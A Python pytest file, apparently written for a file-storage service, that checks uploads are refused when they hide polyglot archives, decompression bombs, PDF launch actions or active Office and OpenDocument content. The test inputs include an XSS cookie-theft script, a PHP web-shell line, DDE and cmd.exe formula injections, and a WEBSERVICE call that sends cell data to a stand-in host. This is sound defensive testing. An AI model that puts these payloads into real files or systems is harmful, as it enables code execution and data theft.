"""What hides in a file that looks well-formed: a second file, a bomb, a program (SEC-14)."""

import io
import re
import zipfile
import zlib
from pathlib import Path

import pikepdf
import pytest
from PIL import Image

from store import file_dangers
from store.file_refusals import ActiveContent, DamagedFile, FileRefused, SeveralTypes, TooDense, TypeRefused
from store.file_types import DOCX, EVERY, ODT, XLSX, Limits
from store.files import FileStore
from tests.store.test_files import cipher, image, objects, pdf


def archive() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        made.writestr("programme.exe", b"MZ" + bytes(100))
    return out.getvalue()


def understated(data: bytes) -> bytes:
    """The same PDF, whose long stream says that it is short: readers look for its end."""
    return re.sub(rb"/Length \d{4,}", lambda found: b"/Length 7".ljust(len(found[0])), data)


def with_stream(data: bytes, filters: list[str]) -> bytes:
    document = pikepdf.new()
    document.add_blank_page()
    stream = pikepdf.Stream(document, b"")
    stream.write(data, filter=pikepdf.Array([pikepdf.Name(name) for name in filters]))
    document.pages[0].obj["/Contents"] = document.make_indirect(stream)
    out = io.BytesIO()
    document.save(out, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)
    return out.getvalue()


def launching() -> bytes:
    document = pikepdf.new()
    document.add_blank_page()
    document.Root["/OpenAction"] = pikepdf.Dictionary(S=pikepdf.Name("/Launch"), F="calc.exe")
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def office(*parts: tuple[str, bytes | str], heart: str = "word/document.xml") -> bytes:
    """A small document of a word processor."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        made.writestr("[Content_Types].xml", "<Types/>")
        made.writestr(heart, "<document>Bonjour</document>")
        for name, data in parts:
            made.writestr(name, data)
    return out.getvalue()


def relation(kind: str, target: str) -> tuple[str, str]:
    """A relation of a document to what is not in it."""
    said = f'<Relationship Id="r1" Type="http://x/{kind}" Target="{target}" TargetMode="External"/>'
    return (f"word/_rels/{kind}.xml.rels", f"<Relationships>{said}</Relationships>")


def relations(said: str, encoding: str = "utf-8") -> tuple[str, bytes]:
    """The relations of a document's settings, as they are written."""
    whole = f'<?xml version="1.0" encoding="{encoding}"?>{said}'
    return ("word/_rels/settings.xml.rels", whole.encode(encoding))


def text_of(*runs: str) -> tuple[str, str]:
    return ("word/footer1.xml", f"<w:ftr xmlns:w='http://x'>{''.join(runs)}</w:ftr>")


def instruction(text: str) -> str:
    return f"<w:r><w:instrText xml:space='preserve'>{text}</w:instrText></w:r>"


def broken_inside(data: bytes) -> bytes:
    """The same archive, whose compressed heart was damaged on the way."""
    with zipfile.ZipFile(io.BytesIO(data)) as read:
        part = read.getinfo("word/document.xml")
    start = part.header_offset + 30 + len(part.filename)
    return data[:start] + b"\xff" * part.compress_size + data[start + part.compress_size :]


def said_empty(data: bytes) -> bytes:
    """The same archive, whose last part says that it holds nothing."""
    entry = data.rindex(b"PK\x01\x02")
    return data[: entry + 16] + bytes(4) + data[entry + 20 : entry + 24] + bytes(4) + data[entry + 28 :]


TEMPLATE = "http://x/attachedTemplate"
ELSEWHERE = "https://ailleurs.example/m.dotm"
OUTSIDE = (
    f'<Relationships><Relationship Id="r1" Type="{TEMPLATE}" Target="{ELSEWHERE}" TargetMode="External"/>'
    "</Relationships>"
)
ANY = Limits(types=EVERY)
BOMB = zlib.compress(bytes(200 * 1024 * 1024), 9)
PAGE = b"<script>alert(document.cookie)</script>"


@pytest.mark.parametrize(
    ("nom", "data", "error"),
    [
        ("photo.jpg", image("JPEG") + archive(), SeveralTypes),
        ("photo.png", image("PNG") + archive(), SeveralTypes),
        ("contrat.pdf", pdf() + archive(), SeveralTypes),
        ("photo.jpg", image("JPEG") + b"<html>" + PAGE, SeveralTypes),
        ("photo.png", image("PNG") + b"<?php system($_GET[0]);", SeveralTypes),
        ("photo.png", image("PNG") + pdf(), SeveralTypes),
        ("contrat.pdf", b"%PDF-1.7\n%" + PAGE + pdf()[9:], SeveralTypes),
        ("contrat.pdf", pdf() + PAGE, SeveralTypes),
        ("contrat.pdf", PAGE + pdf(), ActiveContent),
        ("page.html", b"<!doctype html>" + PAGE, ActiveContent),
        ("logo.svg", b'<?xml version="1.0"?><svg onload="alert(1)"/>', ActiveContent),
        ("logo.svg", b'\n<svg xmlns="http://www.w3.org/2000/svg"><script/></svg>', ActiveContent),
        ("lanceur.pdf", launching(), ActiveContent),
        ("bombe.pdf", with_stream(BOMB, ["/FlateDecode"]), TooDense),
        ("bombe.pdf", understated(with_stream(BOMB, ["/FlateDecode"])), TooDense),
        ("bombe.pdf", with_stream(zlib.compress(BOMB), ["/FlateDecode", "/FlateDecode"]), TooDense),
        ("bombe.zip", archive(), TypeRefused),
    ],
)
async def test_refused_and_nothing_left(
    files: FileStore, files_folder: Path, nom: str, data: bytes, error: type[FileRefused]
) -> None:
    with pytest.raises(FileRefused) as refused:
        await files.put_bytes(cipher(), data, nom=nom)
    assert type(refused.value) is error, str(refused.value)
    assert objects(files_folder) == []


@pytest.mark.parametrize(
    ("nom", "data", "error"),
    [
        ("lettre.docx", office(("word/vbaProject.bin", b"macro")), ActiveContent),
        ("lettre.docx", office(("word/embeddings/oleObject1.bin", b"objet")), ActiveContent),
        (
            "lettre.docx",
            office(relation("attachedTemplate", "https://ailleurs.example/m.dotm")),
            ActiveContent,
        ),
        ("lettre.docx", office(relation("image", "https://ailleurs.example/traceur.png")), ActiveContent),
        ("lettre.docx", office(("word/styles.xml", "<!DOCTYPE x [<!ENTITY a 'b'>]><x/>")), ActiveContent),
        ("lettre.odt", office(("Basic/Standard/Module1.xml", "<x/>"), heart="content.xml"), ActiveContent),
        ("lettre.docx", office(("word/media/image1.png", bytes(300 * 1024 * 1024))), TooDense),
        ("lettre.docx", office(heart="xl/workbook.xml"), DamagedFile),
        ("lettre.docx", office()[:-40], DamagedFile),
        ("lettre.docx", archive() + office(), SeveralTypes),
        ("lettre.zip", office(), TypeRefused),
    ],
)
async def test_documents_of_a_word_processor_that_do_more_than_be_read(
    files: FileStore, files_folder: Path, nom: str, data: bytes, error: type[FileRefused]
) -> None:
    with pytest.raises(FileRefused) as refused:
        await files.put_bytes(cipher(), data, nom=nom, limits=ANY)
    assert type(refused.value) is error, str(refused.value)
    assert objects(files_folder) == []


@pytest.mark.parametrize(
    "part",
    [
        relations(OUTSIDE.replace('"', "'")),
        relations(OUTSIDE.replace("TargetMode=", "TargetMode = ")),
        relations(OUTSIDE.replace('"External"', '" external "')),
        relations(OUTSIDE.replace("External", "&#69;xternal")),
        relations(
            OUTSIDE.replace("<Relationships>", "<r:Relationships xmlns:r='http://x'>")
            .replace("</Relationships>", "</r:Relationships>")
            .replace("<Relationship ", "<r:Relationship ")
        ),
        relations(OUTSIDE, "utf-16"),
        relations("<!DOCTYPE x [<!ENTITY a 'b'>]><x/>", "utf-16"),
        relations(f"<!--{' ' * 5000}--><!DOCTYPE x [<!ENTITY a 'b'>]><x/>"),
        text_of(instruction("DDEAUTO c:\\\\cmd.exe")),
        text_of(instruction("DD"), instruction("EAUTO c:\\\\cmd.exe")),
        text_of("<w:fldSimple w:instr='DDE c:\\\\cmd.exe'/>"),
    ],
)
async def test_what_a_document_fetches_is_seen_however_it_is_written(
    files: FileStore, part: tuple[str, bytes | str]
) -> None:
    with pytest.raises(ActiveContent):
        await files.put_bytes(cipher(), office(part), nom="lettre.docx", limits=ANY)


def sheet(formula: str) -> tuple[str, str]:
    return ("xl/worksheets/sheet1.xml", f"<worksheet><c r='A1'><f>{formula}</f></c></worksheet>")


def pivot(source: str) -> str:
    return f"<pivotCacheDefinition refreshOnLoad='1'><cacheSource type='{source}'/></pivotCacheDefinition>"


MATH = "http://schemas.openxmlformats.org/officeDocument/2006/math"
DDE_LINK = "<externalLink><ddeLink ddeService='cmd' ddeTopic='/c calc'/></externalLink>"


@pytest.mark.parametrize(
    "part",
    [
        ("xl/externalLinks/externalLink1.xml", DDE_LINK),
        ("xl/externalLinks/lien.bin", DDE_LINK),
        relation("externalLinkPath", "file:///\\\\ailleurs.example\\comptes.xlsx"),
        sheet("cmd|' /C calc'!A0"),
        sheet("'cmd'|'/C calc'!A0"),
        sheet("1+<!-- -->cmd|'/C calc'!A0"),
        sheet('DDE("soffice";"/etc/passwd";"A1")'),
        sheet('_xlfn.WEBSERVICE("https://ailleurs.example/"&amp;A1)'),
        ("xl/workbook2.xml", "<workbook><definedName name='a'>cmd|'/C calc'!A0</definedName></workbook>"),
        sheet("<x/>cmd|'/C calc'!A0"),
        sheet("<x>1</x>+cmd|'/C calc'!A0"),
        sheet("Tableau1['#]+cmd|'/C calc'!A0"),
        sheet("Tableau1[HT | TTC]+cmd|'/C calc'!A0"),
        sheet('{"}"}&amp;cmd|\'/C calc\'!A0&amp;""'),
        sheet("'O''Brien'!A1+cmd|'/C calc'!A0"),
        sheet("[[[]+cmd|'/C calc'!A0"),
        *[
            ("xl/worksheets/sheet1.xml", f"<x:a xmlns:x='urn:x'><x:{tag}>WEBSERVICE(A1)</x:{tag}></x:a>")
            for tag in ("formula", "formula1", "formula2", "calculatedColumnFormula")
        ],
        (
            "xl/worksheets/sheet1.xml",
            f"<a><b xmlns:m='{MATH}'/><c xmlns:m='urn:x'><m:f>cmd|'/C calc'!A0</m:f></c></a>",
        ),
        (
            "xl/worksheets/sheet1.xml",
            f"<f xmlns:m='{MATH}'><m:f><y xmlns:m='urn:x'/></m:f>cmd|'/C calc'!A0</f>",
        ),
        ("xl/externalLinks/lien.bin", " " * 70000 + DDE_LINK),
        ("xl/pivotCache/p1.xml", pivot("external")),
        ("xl/queryTables/q1.xml", "<queryTable refreshOnLoad='true'/>"),
        ("xl/macrosheets/sheet1.xml", "<x/>"),
        ("xl/connections.xml", "<connections><connection id='1' refreshOnLoad='1'/></connections>"),
    ],
)
async def test_a_workbook_that_asks_another_program(files: FileStore, part: tuple[str, str]) -> None:
    with pytest.raises(ActiveContent):
        await files.put_bytes(cipher(), office(part, heart="xl/workbook.xml"), nom="comptes.xlsx", limits=ANY)


def shown_by_text(element: str) -> tuple[str, str]:
    return ("styles.xml", f"<o:document xmlns:o='urn:o' xmlns:x='urn:x'>{element}</o:document>")


@pytest.mark.parametrize(
    "element",
    [
        "<o:image x:href='https://ailleurs.example/traceur.png'/>",
        "<o:image x:href='//ailleurs.example/traceur.png'/>",
        "<o:image x:href='../photo.png'/>",
        "<o:image x:href='&#47;etc/passwd'/>",
        "<o:section-source x:href='file:///c:/comptes.odt'/>",
        "<o:object x:href='https://ailleurs.example/objet'/>",
        "<o:object-ole x:href='./Object 1'/>",
        "<o:dde-source o:dde-application='cmd' o:dde-topic='/c calc'/>",
        "<o:dde-connection-decl o:dde-application='cmd'/>",
        "<o:event-listener x:href='vnd.sun.star.script:a'/>",
        "<o:script>Shell</o:script>",
        "<o:table-cell o:formula='of:=DDE(&quot;soffice&quot;;&quot;a&quot;;&quot;b&quot;)'/>",
        "<o:template x:href='https://ailleurs.example/m.ott'/>",
        "<o:image href='https://ailleurs.example/traceur.png'/>",
        "<o:rect x:href='https://ailleurs.example/traceur.png'/>",
        "<o:image x:href='data:image/svg+xml,&lt;svg/>'/>",
        "<o:table-cell o:formula='msoxl:=cmd|&quot;/C calc&quot;!A0'/>",
        "<o:table-cell o:formula='ooow:DDE(A1)'/>",
        "<o:table-cell o:formula='of:={&quot;}&quot;}+cmd|A0'/>",
    ],
)
async def test_an_open_document_that_shows_what_is_elsewhere(files: FileStore, element: str) -> None:
    made = office(shown_by_text(element), heart="content.xml")
    with pytest.raises(ActiveContent):
        await files.put_bytes(cipher(), made, nom="lettre.odt", limits=ANY)


async def test_ordinary_workbooks_and_open_documents_are_kept(files: FileStore) -> None:
    """Sums, sheets whose names have a bar, links that one clicks, pictures inside, the author's own template."""
    book = office(
        sheet('SUM(A1:A9)*1.2&amp;" | DDE(x)"'),
        ("xl/worksheets/sheet2.xml", sheet("'Ventes | 2026'!B2")[1]),
        relation("hyperlink", "https://exemple.fr"),
        ("xl/media/dessin.svg", "<!DOCTYPE svg><svg xmlns='http://www.w3.org/2000/svg'/>"),
        ("xl/note.txt", "<pas du XML"),
        ("xl/worksheets/sheet3.xml", sheet("SUM(Tableau1[HT | TTC],Tableau1[[#All],['#1 | L''an]])")[1]),
        ("xl/worksheets/sheet4.xml", sheet('{1,2;3,4}+LEN("""|""")')[1]),
        ("xl/pivotCache/p1.xml", pivot("worksheet")),
        heart="xl/workbook.xml",
    )
    text = office(
        shown_by_text(
            "<o:scripts/><o:a x:href='https://exemple.fr'>lien</o:a><o:image x:href='Pictures/1.png'/>"
            "<o:object x:href='./Object 1'/><o:template x:href='file:///C:/Modeles/lettre.ott'/>"
            "<o:table-cell o:formula='of:=SUM({1;2|3;4})'/>"
            "<o:table-cell o:formula='of:=[$&apos;a | b]&apos;.A1]'/>"
            "<o:table-cell o:formula='ooow:mean &lt;A1>|&lt;A2>'/>"
        ),
        heart="content.xml",
    )
    for nom, data, type_ in (("comptes.xlsx", book, XLSX), ("lettre.odt", text, ODT)):
        assert (await files.put_bytes(cipher(), data, nom=nom, limits=ANY)).type == type_


@pytest.mark.parametrize(
    "data",
    [
        broken_inside(office()),
        said_empty(office(relations(OUTSIDE))),
        office(("word/styles.xml", "<styles>")),
        office(("word/styles.xml", b"<?xml version='1.0' encoding='inconnu'?><styles/>")),
        office(("word/styles.xml", b"<styles>\xff</styles>")),
    ],
)
async def test_a_document_damaged_inside(files: FileStore, files_folder: Path, data: bytes) -> None:
    with pytest.raises(DamagedFile):
        await files.put_bytes(cipher(), data, nom="lettre.docx", limits=ANY)
    assert objects(files_folder) == []


async def test_documents_of_a_word_processor_are_kept_as_attachments_not_as_proofs(files: FileStore) -> None:
    harmless = office(
        relation("hyperlink", "https://exemple.fr"),
        relation("attachedTemplate", "file:///C:\\Modeles\\n.dotx"),
        relations(
            '<Relationships><Relationship Id="r1" Type="http://x/image" Target="a.png"/></Relationships>'
        ),
        text_of(
            instruction(' HYPERLINK "https://exemple.fr" '),
            "<w:r><w:fldChar/><w:t>La DDE a répondu.</w:t></w:r>",
        ),
        (
            "word/document2.xml",
            f"<d xmlns:v='urn:v' xmlns:m='{MATH}'><v:shape href='https://exemple.fr'/>"
            "<m:f><m:num><m:r><m:t>|x|</m:t></m:r></m:num></m:f></d>",
        ),
        (
            "word/media/dessin.svg",
            "<svg xmlns:xlink='http://x'><image xlink:href='data:image/png;base64,AA=='/></svg>",
        ),
        ("word/fontTable.xml", "<?xml version='1.0' encoding='windows-1252'?><x>é</x>".encode("cp1252")),
    )
    for nom, data, type_ in (
        ("lettre.docx", harmless, DOCX),
        ("comptes.xlsx", office(heart="xl/workbook.xml"), XLSX),
        ("lettre.odt", office(("Configurations2/accelerator/current.xml", ""), heart="content.xml"), ODT),
    ):
        assert (await files.put_bytes(cipher(), data, nom=nom, limits=ANY)).type == type_
    with pytest.raises(TypeRefused):
        await files.put_bytes(cipher(), harmless, nom="lettre.docx")


async def test_many_streams_that_each_stay_under_the_limit(
    files: FileStore, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(file_dangers, "STREAM_MAX", 1024 * 1024)
    monkeypatch.setattr(file_dangers, "EXPANDED_MAX", 2 * 1024 * 1024)
    document = pikepdf.new()
    page = zlib.compress(bytes(900 * 1024), 9) + bytes(1000)
    for _ in range(3):
        document.add_blank_page()
        stream = pikepdf.Stream(document, b"")
        stream.write(page, filter=pikepdf.Name("/FlateDecode"))
        document.pages[-1].obj["/Contents"] = document.make_indirect(stream)
    out = io.BytesIO()
    document.save(out, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)
    with pytest.raises(TooDense):
        await files.put_bytes(cipher(), out.getvalue(), nom="a.pdf")


async def test_an_object_stream_is_never_expanded_whole(files: FileStore) -> None:
    """qpdf expands it as soon as an object of it is asked for: its own limit holds."""
    out = io.BytesIO(b"%PDF-1.5\n")
    out.seek(0, io.SEEK_END)
    at: dict[int, int] = {}
    body = zlib.compress(b"4 0 <<>>" + b" " * (300 * 1024 * 1024), 9)
    for number, text in (
        (1, b"<</Type/Catalog/Pages 2 0 R/X 4 0 R>>"),
        (2, b"<</Type/Pages/Kids[3 0 R]/Count 1>>"),
        (3, b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>"),
        (
            5,
            b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n" % len(body)
            + body
            + b"\nendstream",
        ),
    ):
        at[number] = out.tell()
        out.write(b"%d 0 obj%s endobj\n" % (number, text))
    start = out.tell()

    def entry(kind: int, where: int, index: int) -> bytes:
        return bytes([kind]) + where.to_bytes(4) + bytes([index])

    table = (
        entry(0, 0, 255)
        + b"".join(entry(1, at[n], 0) for n in (1, 2, 3))
        + entry(2, 5, 0)
        + entry(1, at[5], 0)
    )
    out.write(
        b"6 0 obj<</Type/XRef/Size 6/W[1 4 1]/Root 1 0 R/Length %d>>stream\n%s\nendstream endobj\n"
        b"startxref\n%d\n%%%%EOF\n" % (len(table), table, start)
    )
    with pytest.raises((TooDense, DamagedFile)):
        await files.put_bytes(cipher(), out.getvalue(), nom="a.pdf")


async def test_ordinary_files_are_not_taken_for_dangers(files: FileStore, tmp_path: Path) -> None:
    """A picture with its camera's notes, a PDF that speaks of HTML and carries an attachment."""
    out = io.BytesIO()
    exif = Image.Exif()
    exif[0x010E] = "Photo de l'entrée <salon>"
    with Image.open(io.BytesIO(image("JPEG"))) as picture:
        picture.save(out, "JPEG", exif=exif)
    await files.put_bytes(cipher(), out.getvalue(), nom="a.jpg")
    document = pikepdf.new()
    document.add_blank_page()
    document.docinfo["/Title"] = "Mettre une balise <script> dans une page"
    note = tmp_path / "note.txt"
    note.write_bytes(b"<html>rien</html>")
    document.attachments["note.txt"] = pikepdf.AttachedFileSpec.from_filepath(document, note)
    out = io.BytesIO()
    document.save(out)
    await files.put_bytes(cipher(), out.getvalue(), nom="a.pdf")
